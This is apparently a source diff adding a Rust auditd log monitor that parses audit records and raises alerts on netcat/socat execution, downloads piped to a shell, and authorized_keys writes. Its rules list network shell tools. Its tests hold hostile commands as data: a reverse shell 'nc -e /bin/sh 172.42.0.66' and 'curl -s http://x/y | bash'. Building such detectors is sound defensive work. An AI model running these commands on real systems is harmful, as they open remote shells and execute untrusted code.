@@ -0,0 +1,680 @@
+use serde::{Serialize, Deserialize};
+use std::{collections::{BTreeMap, HashMap}, fs::{self, File}, io::{self, BufRead, BufReader, Seek, SeekFrom}, net::IpAddr, os::unix::fs::MetadataExt, path::Path, thread, time::{Duration, Instant}};
+
+use crate::alert::{Alert, AlertCallback, Severity};
+
+/// The maximum number of incomplete events kept while waiting for their end of event record.
+const MAX_PENDING_EVENTS: usize = 64;
+
+/// How long the last event read is kept waiting for more records once the log goes quiet.
+const PENDING_TIMEOUT: Duration = Duration::from_secs(1);
+
+/// The fields whose value auditd writes hex encoded when it contains special characters.
+const ENCODED_FIELDS: [&str; 6] = ["name", "cwd", "comm", "exe", "proctitle", "key"];
+
+/// A single line of the audit log.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct AuditRecord {
+    /// The type of the record (e.g. `SYSCALL`, `EXECVE`, `PATH`).
+    pub kind: String,
+    /// The time of the event, in seconds since the UNIX epoch.
+    pub timestamp: u64,
+    /// The serial number of the event, shared by all of its records.
+    pub serial: u64,
+    /// The `key=value` fields of the record, values unquoted and decoded.
+    pub fields: BTreeMap<String, String>,
+}
+
+/// A path an audited syscall worked on.
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq, Eq)]
+pub struct AuditPath {
+    /// The path, as given to the syscall.
+    pub name: String,
+    /// What the syscall did with the path (e.g. `CREATE`, `DELETE`, `NORMAL`, `PARENT`).
+    pub nametype: String,
+}
+
+/// An audit event, stitched together from all of its records.
+#[derive(Debug, Serialize, Deserialize, Clone, PartialEq, Eq, Default)]
+pub struct AuditEvent {
+    /// The serial number of the event.
+    pub serial: u64,
+    /// The time of the event, in seconds since the UNIX epoch.
+    pub timestamp: u64,
+    /// The type of the first record of the event (`SYSCALL` for syscall events).
+    pub kind: String,
+    /// The number of the syscall, for syscall events.
+    pub syscall: Option<u32>,
+    /// Whether the syscall succeeded.
+    pub success: Option<bool>,
+    /// The PID of the process.
+    pub pid: Option<u32>,
+    /// The parent PID of the process.
+    pub ppid: Option<u32>,
+    /// The user ID of the process.
+    pub uid: Option<u32>,
+    /// The login user ID (the user that logged in, whatever `sudo` or `su` happened since).
+    pub auid: Option<u32>,
+    /// The name of the process.
+    pub comm: Option<String>,
+    /// The executable of the process.
+    pub exe: Option<String>,
+    /// The key of the audit rule that logged the event.
+    pub key: Option<String>,
+    /// The arguments of the executed program, for `execve` events.
+    pub argv: Vec<String>,
+    /// The working directory of the process.
+    pub cwd: Option<String>,
+    /// The paths the syscall worked on.
+    pub paths: Vec<AuditPath>,
+}
+
+/// Decodes a hex encoded value, as auditd writes values containing special characters.
+fn decode_hex(value: &str) -> Option<String>
+{
+    if value.is_empty() || value.len() % 2 != 0 || !value.bytes().all(|b| b.is_ascii_hexdigit()) {
+        return None;
+    }
+
+    let bytes: Vec<u8> = (0..value.len())
+        .step_by(2)
+        .map(|i| u8::from_str_radix(&value[i..i + 2], 16))
+        .collect::<Result<_, _>>()
+        .ok()?;
+
+    // proctitle separates the arguments with NUL bytes.
+    Some(String::from_utf8_lossy(&bytes).replace('\0', " "))
+}
+
+/// Splits the fields of a record, keeping quoted values (which may contain spaces) whole.
+fn split_fields(s: &str) -> Vec<&str>
+{
+    let mut fields = Vec::new();
+    let mut start = None;
+    let mut quote = None;
+
+    for (i, c) in s.char_indices() {
+        match (c, quote) {
+            ('"' | '\'', None) => quote = Some(c),
+            (c, Some(q)) if c == q => quote = None,
+            (' ', None) => {
+                if let Some(begin) = start.take() {
+                    fields.push(&s[begin..i]);
+                }
+                continue;
+            },
+            _ => {},
+        }
+        start.get_or_insert(i);
+    }
+    if let Some(begin) = start {
+        fields.push(&s[begin..]);
+    }
+
+    fields
+}
+
+/// Parses a line of the audit log.
+///
+/// Quoted values are unquoted, and unquoted values of the fields auditd hex encodes
+/// (as well as the `EXECVE` arguments) are decoded. The enriched part of the line that
+/// `log_format = ENRICHED` appends after a `0x1d` byte is ignored.
+///
+/// # Arguments
+///
+/// * `line` - The line to parse.
+///
+/// # Returns
+///
+/// * `Some(AuditRecord)` if the line is a valid audit record.
+/// * `None` otherwise.
+pub fn parse_record(line: &str) -> Option<AuditRecord>
+{
+    let line = line.split('\x1d').next()?.trim();
+    let rest = line.strip_prefix("type=")?;
+    let (kind, rest) = rest.split_once(' ')?;
+    let rest = rest.strip_prefix("msg=audit(")?;
+    let (id, rest) = rest.split_once("):")?;
+    let (time, serial) = id.split_once(':')?;
+
+    let timestamp = time.split('.').next()?.parse().ok()?;
+    let serial = serial.parse().ok()?;
+
+    let mut fields = BTreeMap::new();
+    for field in split_fields(rest) {
+        let Some((key, value)) = field.split_once('=') else {
+            continue;
+        };
+
+        let value = if let Some(quoted) = value.strip_prefix('"').and_then(|v| v.strip_suffix('"')) {
+            quoted.to_string()
+        } else if let Some(quoted) = value.strip_prefix('\'').and_then(|v| v.strip_suffix('\'')) {
+            quoted.to_string()
+        } else if ENCODED_FIELDS.contains(&key) || (kind == "EXECVE" && key.starts_with('a') && key != "argc") {
+            decode_hex(value).unwrap_or_else(|| value.to_string())
+        } else {
+            value.to_string()
+        };
+
+        fields.insert(key.to_string(), value);
+    }
+
+    Some(AuditRecord { kind: kind.to_string(), timestamp, serial, fields })
+}
+
+/// Stitches the records of an event together.
+///
+/// # Arguments
+///
+/// * `records` - The records of the event, in the order they were logged.
+///
+/// # Returns
+///
+/// * `AuditEvent` - The event.
+pub fn build_event(records: &[AuditRecord]) -> AuditEvent
+{
+    let mut event = AuditEvent::default();
+
+    let Some(first) = records.first() else {
+        return event;
+    };
+    event.serial = first.serial;
+    event.timestamp = first.timestamp;
+    event.kind = first.kind.clone();
+
+    let mut args = BTreeMap::new();
+
+    for record in records {
+        let field = |key: &str| record.fields.get(key).cloned();
+        let number = |key: &str| record.fields.get(key).and_then(|v| v.parse().ok());
+
+        match record.kind.as_str() {
+            "EXECVE" => {
+                for (key, value) in &record.fields {
+                    if let Some(index) = key.strip_prefix('a').and_then(|i| i.parse::<usize>().ok()) {
+                        args.insert(index, value.clone());
+                    }
+                }
+            },
+            "CWD" => event.cwd = field("cwd"),
+            "PATH" => event.paths.push(AuditPath {
+                name: field("name").unwrap_or_default(),
+                nametype: field("nametype").unwrap_or_default(),
+            }),
+            "PROCTITLE" | "EOE" => {},
+            _ => {
+                event.syscall = event.syscall.or(number("syscall"));
+                event.success = event.success.or(field("success").map(|s| s == "yes"));
+                event.pid = event.pid.or(number("pid"));
+                event.ppid = event.ppid.or(number("ppid"));
+                event.uid = event.uid.or(number("uid"));
+                event.auid = event.auid.or(number("auid"));
+                event.comm = event.comm.take().or(field("comm"));
+                event.exe = event.exe.take().or(field("exe"));
+                event.key = event.key.take().or(field("key").filter(|k| k != "(null)"));
+            },
+        }
+    }
+
+    event.argv = args.into_values().collect();
+    event
+}
+
+/// Groups the records of the audit log into events, by serial number.
+///
+/// Syscall events span several records (`SYSCALL`, `EXECVE`, `CWD`, `PATH`, ...) closed by
+/// an `EOE` record, while other events (e.g. `USER_LOGIN`) are a single record. Not every
+/// kernel writes the `EOE` records, so an event is also complete once a record of a later
+/// event is read, or when `flush` is called.
+#[derive(Debug, Default)]
+pub struct EventAssembler {
+    pending: BTreeMap<u64, Vec<AuditRecord>>,
+}
+
+impl EventAssembler {
+    /// Creates an assembler with no pending event.
+    pub fn new() -> Self
+    {
+        EventAssembler::default()
+    }
+
+    /// Feeds a record to the assembler.
+    ///
+    /// # Arguments
+    ///
+    /// * `record` - The next record of the log.
+    ///
+    /// # Returns
+    ///
+    /// * `Vec<AuditEvent>` - The events completed by this record, possibly none.
+    pub fn push(&mut self, record: AuditRecord) -> Vec<AuditEvent>
+    {
+        let mut events = Vec::new();
+
+        if record.kind == "EOE" {
+            if let Some(records) = self.pending.remove(&record.serial) {
+                events.push(build_event(&records));
+            }
+        } else {
+            // auditd writes the records of an event together: a later event starting ends
+            // the earlier ones.
+            let later = self.pending.split_off(&record.serial);
+            events.extend(self.flush());
+            self.pending = later;
+
+            if record.kind == "SYSCALL" || self.pending.contains_key(&record.serial) {
+                self.pending.entry(record.serial).or_default().push(record);
+            } else {
+                events.push(build_event(&[record]));
+            }
+        }
+
+        // Events whose end was lost (e.g. log rotation) must not pile up forever.
+        while self.pending.len() > MAX_PENDING_EVENTS {
+            if let Some((_, records)) = self.pending.pop_first() {
+                events.push(build_event(&records));
+            }
+        }
+
+        events
+    }
+
+    /// Completes the pending events, whatever records they still miss.
+    ///
+    /// # Returns
+    ///
+    /// * `Vec<AuditEvent>` - The events pending, in the order of their serial numbers.
+    pub fn flush(&mut self) -> Vec<AuditEvent>
+    {
+        std::mem::take(&mut self.pending)
+            .into_values()
+            .map(|records| build_event(&records))
+            .collect()
+    }
+}
+
+/// What an audit rule looks for in the events.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Matcher {
+    /// An execution of one of these programs, compared by name.
+    Exec(Vec<String>),
+    /// A shell fed with a script downloaded by `curl` or `wget` (`curl ... | sh`).
+    DownloadPipedToShell,
+    /// A change of a path ending with this suffix, as logged by a `-p wa` watch.
+    Write(String),
+}
+
+/// A rule matching audit events that should raise an alert.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct AuditRule {
+    /// The name of the rule, shown in the alerts.
+    pub name: String,
+    /// The severity of the alerts raised by the rule.
+    pub severity: Severity,
+    /// What the rule looks for.
+    pub matcher: Matcher,
+}
+
+/// Returns the built-in audit rules.
+///
+/// They expect auditd to log `execve` calls and writes to `authorized_keys`, for example with:
+///
+/// ```text
+/// -a always,exit -F arch=b64 -S execve -k exec
+/// -w /root/.ssh/authorized_keys -p wa -k authorized_keys
+/// ```
+pub fn default_rules() -> Vec<AuditRule>
+{
+    vec![
+        AuditRule {
+            name: "netcat execution".to_string(),
+            severity: Severity::Medium,
+            matcher: Matcher::Exec(["nc", "ncat", "netcat", "socat"].map(String::from).to_vec()),
+        },
+        AuditRule {
+            name: "download piped to shell".to_string(),
+            severity: Severity::High,
+            matcher: Matcher::DownloadPipedToShell,
+        },
+        AuditRule {
+            name: "authorized_keys write".to_string(),
+            severity: Severity::Critical,
+            matcher: Matcher::Write("authorized_keys".to_string()),
+        },
+    ]
+}
+
+/// Returns the name of the program an event executed, if it is an `execve` event.
+fn program(event: &AuditEvent) -> Option<&str>
+{
+    let path = event.argv.first().map(String::as_str).or(event.exe.as_deref())?;
+    Path::new(path).file_name()?.to_str()
+}
+
+/// Matches audit events against a set of rules.
+///
+/// Some patterns span several events: in `curl ... | sh`, the shell and the download are
+/// two `execve` calls made by the same parent shell. The engine remembers the recent
+/// downloads to match them.
+#[derive(Debug)]
+pub struct RuleEngine {
+    rules: Vec<AuditRule>,
+    downloads: HashMap<u32, u64>,
+}
+
+impl RuleEngine {
+    /// Creates an engine matching the given rules.
+    pub fn new(rules: Vec<AuditRule>) -> Self
+    {
+        RuleEngine { rules, downloads: HashMap::new() }
+    }
+
+    /// Matches an event against the rules.
+    ///
+    /// # Arguments
+    ///
+    /// * `event` - The event to match, events being fed in the order they were logged.
+    ///
+    /// # Returns
+    ///
+    /// * `Vec<&AuditRule>` - The rules the event matches, possibly none.
+    pub fn evaluate(&mut self, event: &AuditEvent) -> Vec<&AuditRule>
+    {
+        let program = program(event).unwrap_or_default();
+        let is_exec = !event.argv.is_empty();
+        let is_shell = ["sh", "bash", "dash", "zsh"].contains(&program);
+        let command = event.argv.join(" ");
+
+        self.downloads.retain(|_, time| event.timestamp.saturating_sub(*time) <= 5);
+
+        // A shell without arguments reads its script from its standard input.
+        let piped = is_shell && event.argv.len() == 1
+            && event.ppid.is_some_and(|ppid| self.downloads.contains_key(&ppid));
+        let inline = is_shell
+            && (command.contains("curl") || command.contains("wget"))
+            && command.contains('|');
+
+        if is_exec && ["curl", "wget"].contains(&program) {
+            if let Some(ppid) = event.ppid {
+                self.downloads.insert(ppid, event.timestamp);
+            }
+        }
+
+        self.rules
+            .iter()
+            .filter(|rule| match &rule.matcher {
+                Matcher::Exec(programs) => is_exec && programs.iter().any(|p| p == program),
+                Matcher::DownloadPipedToShell => piped || inline,
+                Matcher::Write(suffix) => event.paths.iter().any(|path| {
+                    path.name.ends_with(suffix.as_str()) && path.nametype != "PARENT"
+                }),
+            })
+            .collect()
+    }
+}
+
+/// Builds the alert raised for an audit event matching a rule.
+///
+/// # Arguments
+///
+/// * `rule` - The rule matched.
+/// * `event` - The event that matched.
+/// * `my_ip` - The IP address of the local machine, the target of the alert.
+pub fn rule_alert(rule: &AuditRule, event: &AuditEvent, my_ip: IpAddr) -> Alert
+{
+    let what = if event.argv.is_empty() {
+        event.paths.iter().map(|p| p.name.as_str()).collect::<Vec<_>>().join(", ")
+    } else {
+        event.argv.join(" ")
+    };
+    let mut alert = Alert::new("auditd", rule.severity, my_ip, format!("{}: {what}", rule.name));
+
+    alert.details.insert("serial".to_string(), event.serial.to_string());
+    let optional = [
+        ("pid", event.pid.map(|v| v.to_string())),
+        ("ppid", event.ppid.map(|v| v.to_string())),
+        ("uid", event.uid.map(|v| v.to_string())),
+        ("auid", event.auid.map(|v| v.to_string())),
+        ("exe", event.exe.clone()),
+        ("cwd", event.cwd.clone()),
+        ("key", event.key.clone()),
+    ];
+    for (key, value) in optional {
+        if let Some(value) = value {
+            alert.details.insert(key.to_string(), value);
+        }
+    }
+
+    alert
+}
+
+/// Follows a log file like `tail -F`, calling `on_line` for every line appended to it, and
+/// with `None` every time it waits for more.
+///
+/// The file is read from its end. When it is rotated (replaced or truncated), the new file
+/// is read from its start.
+fn follow(path: &str, mut on_line: impl FnMut(Option<&str>)) -> io::Result<()>
+{
+    let mut file = File::open(path)?;
+    let mut inode = file.metadata()?.ino();
+    let mut position = file.seek(SeekFrom::End(0))?;
+    let mut reader = BufReader::new(file);
+    let mut line = String::new();
+
+    loop {
+        match reader.read_line(&mut line) {
+            Ok(0) => {
+                on_line(None);
+                thread::sleep(Duration::from_millis(200));
+
+                let rotated = fs::metadata(path)
+                    .map(|m| m.ino() != inode || m.len() < position)
+                    .unwrap_or(false);
+                if rotated {
+                    let file = File::open(path)?;
+                    inode = file.metadata()?.ino();
+                    position = 0;
+                    reader = BufReader::new(file);
+                }
+            },
+            Ok(read) if line.ends_with('\n') => {
+                position += read as u64;
+                on_line(Some(&line));
+                line.clear();
+            },
+            // Keep the partial line until the rest of it is written.
+            Ok(read) => position += read as u64,
+            Err(e) => return Err(e),
+        }
+    }
+}
+
+/// Follows the audit log and reports the events matching the rules.
+///
+/// The records appended to the log are stitched into events, matched against `rules`, and
+/// each match raises an alert about the local machine with the details of the event.
+///
+/// The log is followed in a separate thread to avoid blocking the main execution.
+///
+/// # Arguments
+///
+/// * `path` - The path of the audit log (usually `/var/log/audit/audit.log`).
+/// * `rules` - The rules to match the events against.
+/// * `my_ip` - The IP address of the local machine.
+/// * `callback` - The callback to run with the alerts raised.
+pub fn start_auditd(path: String, rules: Vec<AuditRule>, my_ip: IpAddr, callback: AlertCallback)
+{
+    thread::spawn(move || {
+        let mut assembler = EventAssembler::new();
+        let mut engine = RuleEngine::new(rules);
+
+        let mut last_record = Instant::now();
+
+        let result = follow(&path, |line| {
+            let events = match line {
+                Some(line) => {
+                    let Some(record) = parse_record(line) else {
+                        return;
+                    };
+                    last_record = Instant::now();
+                    assembler.push(record)
+                },
+                // No later record ends the last event while the log is quiet.
+                None if last_record.elapsed() >= PENDING_TIMEOUT => assembler.flush(),
+                None => return,
+            };
+
+            for event in events {
+                for rule in engine.evaluate(&event) {
+                    let mut alert = rule_alert(rule, &event, my_ip);
+                    if let Some(pid) = event.pid {
+                        alert = alert.with_process(pid);
+                    }
+
+                    let cb = callback.lock().unwrap();
+                    cb(alert);
+                }
+            }
+        });
+
+        if let Err(e) = result {
+            println!("Stopped following audit log {path}: {e}");
+        }
+    });
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const AUDIT_LOG: &str = include_str!("../testdata/auditd/audit.log");
+    const AUDIT_LOG_NO_EOE: &str = include_str!("../testdata/auditd/audit-no-eoe.log");
+
+    fn events() -> Vec<AuditEvent> {
+        let mut assembler = EventAssembler::new();
+        AUDIT_LOG
+            .lines()
+            .filter_map(parse_record)
+            .flat_map(|record| assembler.push(record))
+            .collect()
+    }
+
+    #[test]
+    fn test_parse_record() {
+        let record = parse_record(AUDIT_LOG.lines().next().unwrap()).unwrap();
+
+        assert_eq!(record.kind, "SYSCALL");
+        assert_eq!(record.timestamp, 1718000000);
+        assert_eq!(record.serial, 7001);
+        assert_eq!(record.fields["comm"], "nc");
+        assert_eq!(record.fields["exe"], "/usr/bin/nc.openbsd");
+        assert_eq!(record.fields["syscall"], "59");
+    }
+
+    #[test]
+    fn test_parse_record_decodes_hex() {
+        let record = parse_record("type=CWD msg=audit(1718000003.300:7005): cwd=2F726F6F7420646972").unwrap();
+        assert_eq!(record.fields["cwd"], "/root dir");
+
+        let record = parse_record("type=EXECVE msg=audit(1.0:1): argc=2 a0=\"sh\" a1=2D632069640A").unwrap();
+        assert_eq!(record.fields["a1"], "-c id\n");
+        assert_eq!(record.fields["argc"], "2");
+    }
+
+    #[test]
+    fn test_parse_record_invalid() {
+        assert!(parse_record("").is_none());
+        assert!(parse_record("Jun 10 10:00:00 host sshd[1]: Accepted publickey").is_none());
+    }
+
+    #[test]
+    fn test_assembler_stitches_events() {
+        let events = events();
+        assert_eq!(events.len(), 5);
+
+        let nc = &events[0];
+        assert_eq!(nc.serial, 7001);
+        assert_eq!(nc.syscall, Some(59));
+        assert_eq!(nc.pid, Some(2301));
+        assert_eq!(nc.argv, vec!["nc", "-e", "/bin/sh", "172.42.0.66"]);
+        assert_eq!(nc.cwd.as_deref(), Some("/tmp"));
+        assert_eq!(nc.paths.len(), 2);
+
+        assert_eq!(events[1].kind, "USER_LOGIN");
+        assert_eq!(events[4].paths[1], AuditPath {
+            name: "/root/.ssh/authorized_keys".to_string(),
+            nametype: "CREATE".to_string(),
+        });
+    }
+
+    #[test]
+    fn test_assembler_without_eoe() {
+        let mut assembler = EventAssembler::new();
+        let mut events: Vec<AuditEvent> = AUDIT_LOG_NO_EOE
+            .lines()
+            .filter_map(parse_record)
+            .flat_map(|record| assembler.push(record))
+            .collect();
+        // Each event ends when the next one starts, but the last one.
+        assert_eq!(events.iter().map(|event| event.serial).collect::<Vec<_>>(), vec![7001, 7002, 7003, 7004]);
+        assert_eq!(events[0].argv, vec!["nc", "-e", "/bin/sh", "172.42.0.66"]);
+        assert_eq!(events[0].paths.len(), 2);
+
+        events.extend(assembler.flush());
+        let mut engine = RuleEngine::new(default_rules());
+        let matches: Vec<(u64, String)> = events
+            .iter()
+            .flat_map(|event| {
+                engine.evaluate(event).into_iter().map(|rule| (event.serial, rule.name.clone())).collect::<Vec<_>>()
+            })
+            .collect();
+
+        assert_eq!(matches, vec![
+            (7001, "netcat execution".to_string()),
+            (7004, "download piped to shell".to_string()),
+            (7005, "authorized_keys write".to_string()),
+        ]);
+    }
+
+    #[test]
+    fn test_rules_match_events() {
+        let mut engine = RuleEngine::new(default_rules());
+        let matches: Vec<(u64, String)> = events()
+            .iter()
+            .flat_map(|event| {
+                engine.evaluate(event).into_iter().map(|rule| (event.serial, rule.name.clone())).collect::<Vec<_>>()
+            })
+            .collect();
+
+        assert_eq!(matches, vec![
+            (7001, "netcat execution".to_string()),
+            (7004, "download piped to shell".to_string()),
+            (7005, "authorized_keys write".to_string()),
+        ]);
+    }
+
+    #[test]
+    fn test_inline_download_piped_to_shell() {
+        let mut engine = RuleEngine::new(default_rules());
+        let event = AuditEvent {
+            argv: vec!["bash".to_string(), "-c".to_string(), "curl -s http://x/y | bash".to_string()],
+            ..Default::default()
+        };
+
+        let rules = engine.evaluate(&event);
+        assert_eq!(rules.len(), 1);
+        assert_eq!(rules[0].matcher, Matcher::DownloadPipedToShell);
+    }
+
+    #[test]
+    fn test_rule_alert() {
+        let event = &events()[0];
+        let rule = &default_rules()[0];
+        let alert = rule_alert(rule, event, "172.42.0.3".parse().unwrap());
+
+        assert_eq!(alert.source, "auditd");
+        assert_eq!(alert.message, "netcat execution: nc -e /bin/sh 172.42.0.66");
+        assert_eq!(alert.details["pid"], "2301");
+        assert_eq!(alert.details["cwd"], "/tmp");
+    }
+}